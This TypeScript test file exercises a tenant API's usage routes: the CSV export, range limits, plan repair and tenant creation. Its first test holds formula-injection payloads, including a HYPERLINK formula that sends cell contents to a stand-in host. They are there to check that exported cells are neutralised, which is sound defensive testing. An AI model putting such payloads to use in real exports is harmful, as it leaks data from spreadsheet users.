/**
 * The tenants routes that touch usage: the CSV export as a spreadsheet opens it (no cell a
 * formula), and `PATCH /tenants/{id}` `{plan}` as the repair of a tenant's usage key, refused for
 * a deleted tenant, and the refusals the README promises (the 92-day bound, unknown plans, a
 * tenant that exists, 503 with no tenant recorded). The routes are called directly, with in-memory stand-ins for the store, the
 * key lifecycle, the counters and the provisioner.
 */
import { describe, expect, it } from 'vitest';
import type { KeyLifecycle } from '../../functions/core/key-lifecycle.js';
import type { Principal } from '../../functions/core/principal.js';
import { TenantExistsError, type Tenant, type TenantStore } from '../../functions/core/tenant-store.js';
import type { UsageDay, UsageReader } from '../../functions/core/usage-counter.js';
import { UpstreamUnavailableError } from '../../functions/core/errors.js';
import type { UsageKeyProvisioner } from '../../functions/core/usage-plans.js';
import type { ApiRequest, Route } from '../../functions/http/api-handler.js';
import { createTenantRoutes } from '../../functions/tenants/routes.js';
import { ManualClock } from '../support/clock.js';

const ops: Principal = { subject: 'ops', tenantId: undefined, userId: 'ops', clientId: 'spa', roles: ['platform:admin'], scopes: [], authMethod: 'jwt', expiresAt: 0, issuedAtMs: 0 };

function setup(o: { days?: UsageDay[]; deleted?: string[]; raceWinner?: Tenant; served?: Map<string, number>; provisionFails?: Error; noPlans?: boolean } = {}) {
  const tenants = new Map<string, Tenant>([['acme', { tenantId: 'acme', name: 'Acme', status: 'active', createdAt: '', updatedAt: '', plan: 'free' }]]);
  const store = {
    async getTenant(id: string) {
      return tenants.get(id);
    },
    async createTenant(t: Tenant) {
      // A concurrent creation of the same id wins between our look and our write.
      if (o.raceWinner) {
        tenants.set(t.tenantId, o.raceWinner);
        throw new TenantExistsError(t.tenantId);
      }
      tenants.set(t.tenantId, t);
    },
    async updateTenant(id: string, patch: Partial<Tenant>) {
      const t = tenants.get(id);
      if (!t) return undefined;
      Object.assign(t, patch);
      return t;
    },
  } as unknown as TenantStore;
  const moves: [string, string | undefined, string][] = [];
  const provisioned: [string, string][] = [];
  const provisioner = {
    plans: ['free', 'standard'],
    async provision(tenantId: string, plan: string) {
      provisioned.push([tenantId, plan]);
      if (o.provisionFails) throw o.provisionFails;
      return { id: 'k1', name: `stack-tenant-${tenantId}` };
    },
    async move(tenantId: string, from: string | undefined, to: string) {
      moves.push([tenantId, from, to]);
    },
    async requestsByDay(_tenantId: string, _plan: string, days: readonly string[]) {
      return o.served && new Map(days.map((d) => [d, o.served!.get(d) ?? 0]));
    },
  } as unknown as UsageKeyProvisioner;
  const keys = {
    async isDeleted(tenantId: string) {
      return (o.deleted ?? []).includes(tenantId);
    },
  } as unknown as KeyLifecycle;
  const usageCounts: UsageReader = { days: async () => o.days ?? [] };
  const routes = createTenantRoutes({ store, keys, clock: new ManualClock(), keyPrefix: 'lk', usage: o.noPlans ? undefined : { provisioner, defaultPlan: 'free' }, usageCounts });
  const call = (method: string, resource: string, req: Partial<ApiRequest>) =>
    routes.find((r: Route) => r.method === method && r.resource === resource)!.handle({ caller: ops, path: {}, query: {}, body: undefined, requestId: 'r', ...req });
  return { call, moves, provisioned, tenants };
}

describe('GET /tenants/{id}/usage as CSV', () => {
  it('writes no cell a spreadsheet would run as a formula, whatever a key or client id holds', async () => {
    const hostile = ['=HYPERLINK("http://x.test/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\r=1'];
    const { call } = setup({ days: [{ day: '2026-11-30', total: 7, subjects: new Map([...hostile.map((h) => [h, 1] as [string, number]), ['-', 1]]) }] });
    const res = await call('GET', '/tenants/{tenantId}/usage', { path: { tenantId: 'acme' }, query: { from: '2026-11-30', to: '2026-11-30' }, headers: { accept: 'text/csv' } });
    const rows = res.text!.trim().split('\r\n').slice(1);
    // Each field as a spreadsheet reads it: unquoted, doubled quotes undone.
    const cells = rows.flatMap((r) => [...r.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => m[1]!.replace(/^"([\s\S]*)"$/, '$1').replaceAll('""', '"')));
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]./);
    // The values are kept, behind a quote mark, and the JSON form is untouched.
    expect(cells).toContain(`'${hostile[0]}`);
    expect(cells).toContain('-');
    const json = await call('GET', '/tenants/{tenantId}/usage', { path: { tenantId: 'acme' }, query: { from: '2026-11-30', to: '2026-11-30' } });
    expect((json.body as { keys: { id: string }[] }).keys.map((k) => k.id)).toEqual(expect.arrayContaining(hostile));
  });
});

describe('GET /tenants/{id}/usage totals', () => {
  const days: UsageDay[] = [{ day: '2026-11-30', total: 9, subjects: new Map([['key_a', 6], ['key_b', 3]]) }];
  const query = { from: '2026-11-29', to: '2026-11-30' };

  it("takes the per-day totals from API Gateway's count of the tenant's key where plans are deployed, and keeps the authorizer's beside them", async () => {
    const { call } = setup({ days, served: new Map([['2026-11-29', 2], ['2026-11-30', 8]]) });
    const res = await call('GET', '/tenants/{tenantId}/usage', { path: { tenantId: 'acme' }, query });
    expect(res.body).toMatchObject({
      source: 'gateway',
      requests: 10,
      days: [
        { day: '2026-11-29', requests: 2, counted: 0, keys: [] },
        { day: '2026-11-30', requests: 8, counted: 9, keys: [{ id: 'key_a', requests: 6 }, { id: 'key_b', requests: 3 }] },
      ],
    });
    const csv = await call('GET', '/tenants/{tenantId}/usage', { path: { tenantId: 'acme' }, query, headers: { accept: 'text/csv' } });
    expect(csv.text).toContain('2026-11-30,acme,*,8\r\n');
  });

  it("falls back to the authorizer's counts for a tenant without a usage key", async () => {
    const { call } = setup({ days });
    const res = await call('GET', '/tenants/{tenantId}/usage', { path: { tenantId: 'acme' }, query });
    expect(res.body).toMatchObject({ source: 'counters', requests: 9, days: [{ requests: 0 }, { requests: 9, counted: 9 }] });
  });
});

describe('GET /tenants/{id}/usage range', () => {
  const usage = (call: ReturnType<typeof setup>['call'], from: string, to: string) => call('GET', '/tenants/{tenantId}/usage', { path: { tenantId: 'acme' }, query: { from, to } });

  it('covers at most 92 days (README): 92 answer, 93 are refused with 400', async () => {
    const { call } = setup();
    const res = await usage(call, '2026-01-01', '2026-04-02');
    expect((res.body as { days: unknown[] }).days).toHaveLength(92);
    await expect(usage(call, '2026-01-01', '2026-04-03')).rejects.toMatchObject({ status: 400 });
  });

  it('refuses a range that ends before it starts, or a day that is not on the calendar (400)', async () => {
    const { call } = setup();
    await expect(usage(call, '2026-11-30', '2026-11-29')).rejects.toMatchObject({ status: 400 });
    await expect(usage(call, '2026-02-30', '2026-03-01')).rejects.toMatchObject({ status: 400 });
  });
});

describe('PATCH /tenants/{id} {plan}', () => {
  it('refuses a plan that is not deployed (400) without touching the key', async () => {
    const { call, moves } = setup();
    await expect(call('PATCH', '/tenants/{tenantId}', { path: { tenantId: 'acme' }, body: { plan: 'gold' } })).rejects.toMatchObject({ status: 400 });
    expect(moves).toEqual([]);
  });

  it('refuses a plan where no usage plans are deployed (400)', async () => {
    const { call } = setup({ noPlans: true });
    await expect(call('PATCH', '/tenants/{tenantId}', { path: { tenantId: 'acme' }, body: { plan: 'free' } })).rejects.toMatchObject({ status: 400 });
  });

  it('answers 404 for a tenant that does not exist, and gives it no key', async () => {
    const { call, moves } = setup();
    await expect(call('PATCH', '/tenants/{tenantId}', { path: { tenantId: 'nobody' }, body: { plan: 'free' } })).rejects.toMatchObject({ status: 404 });
    expect(moves).toEqual([]);
  });

  it("repairs the tenant's usage key when the plan is the one on record (a key lost by a half-done move)", async () => {
    const { call, moves } = setup();
    const res = await call('PATCH', '/tenants/{tenantId}', { path: { tenantId: 'acme' }, body: { plan: 'free' } });
    expect(res.status).toBe(200);
    expect(moves).toEqual([['acme', 'free', 'free']]);
  });

  it('refuses a deleted tenant (409) and gives it no usage key again', async () => {
    const { call, moves } = setup({ deleted: ['acme'] });
    await expect(call('PATCH', '/tenants/{tenantId}', { path: { tenantId: 'acme' }, body: { plan: 'standard' } })).rejects.toMatchObject({ status: 409 });
    expect(moves).toEqual([]);
  });
});

describe('POST /tenants', () => {
  it('answers 503 with Retry-After and records no tenant when API Gateway refuses the key (README: the retry finishes the job)', async () => {
    const { call, tenants } = setup({ provisionFails: new UpstreamUnavailableError('ERR_GATEWAY_THROTTLED', 'throttled', 2) });
    await expect(call('POST', '/tenants', { body: { tenantId: 'newco', name: 'NewCo' } })).rejects.toMatchObject({ retryAfterS: 2 });
    expect(tenants.has('newco')).toBe(false);
  });

  it('answers 409 for a tenant that exists without provisioning a key (its key stays on its own plan)', async () => {
    const { call, provisioned, moves } = setup();
    await expect(call('POST', '/tenants', { body: { tenantId: 'acme', name: 'Acme', plan: 'standard' } })).rejects.toMatchObject({ status: 409 });
    expect(provisioned).toEqual([]);
    expect(moves).toEqual([]);
  });

  it('puts a new tenant on the default plan, and refuses a plan where none are deployed (400)', async () => {
    const { call, provisioned } = setup();
    const res = await call('POST', '/tenants', { body: { tenantId: 'newco', name: 'NewCo' } });
    expect(res).toMatchObject({ status: 201, body: { plan: 'free' } });
    expect(provisioned).toEqual([['newco', 'free']]);
    await expect(setup({ noPlans: true }).call('POST', '/tenants', { body: { tenantId: 'other', name: 'Other', plan: 'free' } })).rejects.toMatchObject({ status: 400 });
  });

  it("loses a race with a concurrent creation without leaving the winner's key on the loser's plan", async () => {
    const winner: Tenant = { tenantId: 'newco', name: 'NewCo', status: 'active', createdAt: '', updatedAt: '', plan: 'free' };
    const { call, moves, provisioned } = setup({ raceWinner: winner });
    await expect(call('POST', '/tenants', { body: { tenantId: 'newco', name: 'NewCo', plan: 'standard' } })).rejects.toMatchObject({ status: 409 });
    // Our provisioning put the key on standard (moving it off the winner's free): it goes back.
    expect(provisioned).toEqual([['newco', 'standard']]);
    expect(moves).toEqual([['newco', 'standard', 'free']]);
  });
});
